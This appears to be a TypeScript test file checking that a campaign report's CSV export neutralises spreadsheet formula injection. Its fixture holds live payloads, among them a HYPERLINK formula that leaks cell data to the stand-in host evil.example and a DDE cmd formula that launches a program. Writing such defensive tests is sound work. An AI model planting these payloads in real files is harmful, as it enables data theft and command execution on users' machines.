import { parse } from 'csv-parse/sync';
import { startTestService, TestService } from '../helpers/service';

const AUDIO = 'https://media.example.com/alert.wav';

/** Cells a spreadsheet would run as formulas (OWASP CSV injection), in values and in column names. */
const HOSTILE = {
  note: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '=cmd|\' /C calc\'!A0': 'column name',
  at: '@SUM(1+1)',
  plus: '+1+1',
  minus: '-2+3',
  tab: '\t=1+1',
  cr: '\r=1+1',
  plain: 'Ada Lovelace',
};

describe('campaign report CSV', () => {
  let t: TestService;
  beforeAll(async () => {
    t = await startTestService('sqlite');
  });
  afterAll(() => t.stop());

  it('prefixes a quote to every cell and header that a spreadsheet would read as a formula', async () => {
    const created = await t.api().post('/api/campaigns').send({ name: 'csv injection', audioFileUri: AUDIO, targets: [{ to: '+14255550101', ...HOSTILE }] });
    expect(created.status).toBe(201);
    await t.api().post(`/api/campaigns/${created.body.id}/pause`);

    const res = await t.api().get(`/api/campaigns/${created.body.id}/report?format=csv`);
    expect(res.status).toBe(200);
    const [header, row] = parse(res.text, { relax_quotes: false }) as string[][];
    const cell = (name: string) => row[header.indexOf(name)];

    expect(header).toContain("'=cmd|' /C calc'!A0");
    expect(header).not.toContain("=cmd|' /C calc'!A0");
    expect(cell("'=cmd|' /C calc'!A0")).toBe('column name');
    expect(cell('note')).toBe(`'${HOSTILE.note}`);
    expect(cell('at')).toBe("'@SUM(1+1)");
    expect(cell('plus')).toBe("'+1+1");
    expect(cell('minus')).toBe("'-2+3");
    expect(cell('tab')).toBe("'\t=1+1");
    expect(cell('cr')).toBe("'\r=1+1");
    expect(cell('plain')).toBe('Ada Lovelace');
    // Phone numbers start with + too: they stay text in a spreadsheet, which keeps the + and any leading zero.
    expect(cell('to')).toMatch(/^'?(4:)?\+14255550101$/);
    expect(cell('to').startsWith('+')).toBe(false);
    // Every cell, none left starting with a formula character.
    for (const value of [...header, ...row]) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
